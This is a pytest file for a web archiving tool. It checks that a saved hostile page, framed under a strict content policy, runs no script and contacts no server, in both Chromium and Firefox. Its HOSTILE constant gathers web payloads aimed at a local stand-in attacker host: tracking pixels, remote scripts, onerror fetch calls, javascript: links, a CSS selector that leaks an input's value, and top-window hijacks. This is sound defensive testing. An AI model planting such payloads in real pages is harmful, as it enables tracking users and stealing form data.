"""A hostile saved page in its frame: nothing in it runs, and it reaches no server."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Browser

from kursk_archive import build, read_config
from kursk_archive.loader import read_original
from kursk_archive.loader.html.page_text import PageText
from tests.browser.firefox import Firefox

TEXT = (
    "<h1>The ferry stops</h1><p>On 15 August 2024 the council of Examplia said that the ferry stops for the winter,"
    " since the ice on the river is thick enough to carry the carts of the market and nobody needs it before spring."
    "</p><p>The ferryman, who has crossed the river for forty years, said that he would mend his nets.</p>"
)
HOSTILE = """\
<!doctype html><html lang="en"><head><title>The ferry stops</title>
<meta http-equiv="refresh" content="0;url=HOST/refresh"><base href="HOST/base/" target="_top">
<link rel="preconnect" href="HOST"><link rel="dns-prefetch" href="HOST"><link rel="prefetch" href="HOST/prefetch">
<link rel="preload" as="image" href="HOST/preload"><link rel="icon" href="HOST/icon">
<link rel="modulepreload" href="HOST/module.js"><link rel="prerender" href="HOST/prerender">
<link rel="manifest" href="HOST/manifest"><meta http-equiv="x-dns-prefetch-control" content="on">
<script type="speculationrules">{"prefetch": [{"urls": ["HOST/speculation"]}]}</script>
<link rel="stylesheet" href="HOST/link.css"><script>top.document.title = "taken"; parent.x = 1</script>
<script src="HOST/a.js"></script><script type="module">import "HOST/m.js"</script>
<style>@import "HOST/import.css"; @font-face { font-family: f; src: url(HOST/font) }
body { background: url(HOST/body.png); font-family: f; cursor: url(HOST/cursor), auto }
p::before { content: url(HOST/content) } li { list-style-image: image-set("HOST/list" 1x) }
@import url("data:text/css,@import url(HOST/inner.css); h1 { background: url(HOST/inner.png) }");
input[value^="s"] { background: url(HOST/secret) }
h1 { color: rgb(0, 0, 200) }</style></head>
<body onload="new Image().src='HOST/onload'" background="HOST/background">TEXT
<img src="HOST/pixel.gif" width="1" height="1"><img src="x" onerror="fetch('HOST/onerror')">
<img srcset="HOST/srcset 1x"><video src="HOST/video" poster="HOST/poster" autoplay></video>
<audio src="HOST/audio" autoplay></audio>
<form action="HOST/form"><input name="a" value="secret" autofocus><button id="send">Send</button></form>
<iframe src="HOST/frame"></iframe>
<iframe srcdoc="<img src='HOST/inner'><script>top.document.title='taken'</script>"></iframe>
<object data="HOST/object"></object><embed src="HOST/embed">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(%22HOST/drawing%22)'>\
<image href='HOST/drawn'/></svg>">
<object data="data:text/html,<script>top.document.title='taken';fetch('HOST/data')</script>"></object>
<iframe src="data:text/html,<img src='HOST/frame-data'>"></iframe><iframe src="javascript:top.x=1"></iframe>
<div><template shadowrootmode="open"><img src="HOST/shadow"></template></div>
<ul><li style="background: url('HOST/attribute')">one</li></ul><input type="image" src="HOST/input">
<video controls><source src="HOST/source"><track default src="HOST/track"></video>
<svg width="9" height="9"><script>fetch("HOST/svg")</script><image href="HOST/image" width="9" height="9"/>
<use href="HOST/use#a"/><animate onbegin="fetch('HOST/begin')" attributeName="x" dur="1s"/></svg>
<p><a id="script" href="javascript:top.document.title='taken'">a</a>
<a id="out" href="HOST/out" target="_top" ping="HOST/ping">b</a></p>
</body></html>
"""
POLICY = (
    "default-src 'none'; style-src 'unsafe-inline' data:; img-src data:; font-src data:; media-src data:; "
    "form-action 'none'; base-uri 'none'"
)


CONNECTION = "a connection"


@pytest.fixture
def hostile_host() -> Iterator[tuple[str, list[str]]]:
    """A server that notes who connects, as a browser does ahead of a request, and what it is asked for."""
    asked: list[str] = []

    class Noting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - the base class's name

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
            pass

    class NotingConnections(ThreadingHTTPServer):
        def verify_request(self, request: object, client_address: object) -> bool:
            asked.append(CONNECTION)
            return True

    with NotingConnections(("127.0.0.1", 0), Noting) as server:
        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}", asked
        finally:
            server.shutdown()
            thread.join()


@pytest.fixture(params=["inert", "as written"])
def site(
    request: pytest.FixtureRequest, hostile_host: tuple[str, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Path:
    """Output folder of an archive of the hostile page; also with nothing removed, as if all of that failed."""
    content = tmp_path / "content"
    content.mkdir()
    (content / "ferry.html").write_text(HOSTILE.replace("TEXT", TEXT).replace("HOST", hostile_host[0]))
    if request.param == "as written":

        def unchanged(page: PageText, *_: object) -> str:
            return page.text

        monkeypatch.setattr(read_original, "make_inert", unchanged)
    build(read_config(content, output=tmp_path / "build", search=False, jobs=1))
    return tmp_path / "build"


def reached(host: tuple[str, list[str]], page_file: Path) -> list[str]:
    """Return what the server noted. Hints to connect ahead are beyond any policy, so they have to be removed."""
    has_hints = "preconnect" in page_file.read_text()
    return [note for note in host[1] if not (has_hints and note == CONNECTION)]


@pytest.mark.parametrize("scheme", ["http", "file"])
def test_a_hostile_page_reaches_nothing_in_firefox(
    firefox: Firefox, site: Path, hostile_host: tuple[str, list[str]], serve: Callable[[Path], str], scheme: str
) -> None:
    (page_file,) = site.rglob("*.original.html")
    root = serve(site) if scheme == "http" else f"{site.as_uri()}/"
    firefox.open(root + page_file.relative_to(site).as_posix())
    shown = "return [location.href, document.title, window.length, String(window.x)]"
    before = firefox.run(shown)
    firefox.enter_frame()
    assert firefox.run("return getComputedStyle(document.querySelector('h1')).color") == "rgb(0, 0, 200)"
    for target in ("#script", "#send", "#out"):
        firefox.run("const one = document.querySelector(arguments[0]); if (one) one.click()", target)
        time.sleep(0.3)
    firefox.leave_frame()
    assert firefox.run(shown) == before
    assert len(firefox.command("WebDriver:GetWindowHandles")) == 1
    assert reached(hostile_host, page_file) == []


def test_firefox_would_reach_the_host_without_the_frame(
    firefox: Firefox, hostile_host: tuple[str, list[str]], tmp_path: Path
) -> None:
    page = tmp_path / "page.html"
    page.write_text(f"<img src='{hostile_host[0]}/pixel'>")
    firefox.open(page.as_uri())
    assert hostile_host[1][:2] == [CONNECTION, "/pixel"]


@pytest.mark.parametrize("scheme", ["http", "file"])
def test_a_hostile_page_reaches_nothing(
    browser: Browser, site: Path, hostile_host: tuple[str, list[str]], serve: Callable[[Path], str], scheme: str
) -> None:
    (page_file,) = site.rglob("*.original.html")
    assert POLICY in page_file.read_text()
    root = serve(site) if scheme == "http" else f"{site.as_uri()}/"
    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(root + page_file.relative_to(site).as_posix())
        address, title = page.url, page.title()
        frame = page.frame_locator("iframe")
        assert frame.locator("h1").evaluate("one => getComputedStyle(one).color") == "rgb(0, 0, 200)"
        for target in ("#script", "#send", "#out"):
            if frame.locator(target).count():
                frame.locator(target).dispatch_event("click")
                page.wait_for_timeout(300)
        assert (page.url, page.title(), len(context.pages)) == (address, title, 1)
        assert page.evaluate("window.x") is None
    finally:
        context.close()
    assert reached(hostile_host, page_file) == []


@pytest.fixture
def styled(tmp_path: Path) -> str:
    """Address of an original page whose style sheets import others."""
    content = tmp_path / "content"
    (content / "ferry_files").mkdir(parents=True)
    sheets = {
        "style.css": "@import 'wide.css' screen and (min-width: 1px); @import 'print.css' print; h2 { color: red }",
        "wide.css": "@import url(deep.css); h1 { color: rgb(0, 0, 200) }",
        "deep.css": "p { color: rgb(0, 100, 0) }",
        "print.css": "h1, p { color: rgb(200, 0, 0) !important }",
    }
    for name, sheet in sheets.items():
        (content / "ferry_files" / name).write_text(sheet)
    head = '<title>The ferry stops</title><link rel="stylesheet" href="ferry_files/style.css">'
    (content / "ferry.html").write_text(f"<!doctype html><html lang=en><head>{head}</head><body>{TEXT}")
    build(read_config(content, output=tmp_path / "build", search=False, jobs=1))
    (page,) = (tmp_path / "build").rglob("*.original.html")
    return page.as_uri()


COLOURS = ["rgb(0, 0, 200)", "rgb(0, 100, 0)"]


def test_imported_style_sheets_apply(browser: Browser, styled: str) -> None:
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(styled)
        shown = [page.frame_locator("iframe").locator(tag).first for tag in ("h1", "p")]
        assert [one.evaluate("one => getComputedStyle(one).color") for one in shown] == COLOURS
    finally:
        context.close()


def test_imported_style_sheets_apply_in_firefox(firefox: Firefox, styled: str) -> None:
    firefox.open(styled)
    firefox.enter_frame()
    script = "return ['h1', 'p'].map(tag => getComputedStyle(document.querySelector(tag)).color)"
    assert firefox.run(script) == COLOURS
